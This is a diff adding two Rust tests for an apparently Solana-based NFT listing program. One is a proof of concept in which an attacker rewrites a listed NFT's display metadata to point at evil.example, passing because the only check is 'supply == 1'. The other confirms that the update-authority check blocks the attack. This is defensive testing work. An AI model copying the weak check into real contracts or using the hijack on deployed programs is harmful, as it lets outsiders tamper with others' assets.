@@ -0,0 +1,71 @@
+#[tokio::test]
+async fn test_metadata_hijack_exploit() {
+    println!("\n=== EXPLOIT: NFT Branding Hijack ===\n");
+
+    let creator = Keypair::new();
+    let mallory = Keypair::new();
+    let nft = mint_nft(&creator, "Famous Ape #1", "https://arweave.net/ape1").await;
+    let display = list_nft(&nft).await;
+    println!("1. Listed: Famous Ape #1");
+
+    println!("\n2. Mallory rewrites the display record");
+    let result = set_metadata(
+        &display,
+        &nft,
+        &mallory,
+        "Famous Ape #1",
+        "APE",
+        "https://evil.example/junk.png",
+    )
+    .await;
+
+    // Vulnerable: supply == 1 is the only check
+    assert!(result.is_ok());
+    assert_eq!(
+        get_display(&display).await.uri,
+        "https://evil.example/junk.png"
+    );
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Mallory changed branding on an NFT she does not control");
+}
+
+#[tokio::test]
+async fn test_update_authority_required() {
+    println!("\n=== SECURITY: Metaplex Update Authority ===\n");
+
+    let creator = Keypair::new();
+    let mallory = Keypair::new();
+    let nft = mint_nft(&creator, "Famous Ape #1", "https://arweave.net/ape1").await;
+    let display = list_nft(&nft).await;
+
+    println!("1. Mallory tries to update");
+    let result = set_metadata(
+        &display,
+        &nft,
+        &mallory,
+        "Famous Ape #1",
+        "APE",
+        "https://evil.example/junk.png",
+    )
+    .await;
+    assert!(result.is_err());
+    println!("   ✓ Error: Signer is not the metadata update authority");
+
+    println!("\n2. Creator updates");
+    set_metadata(
+        &display,
+        &nft,
+        &creator,
+        "Famous Ape #1",
+        "APE",
+        "https://arweave.net/ape1-v2",
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        get_display(&display).await.uri,
+        "https://arweave.net/ape1-v2"
+    );
+    println!("   ✓ Update authority can change branding");
+}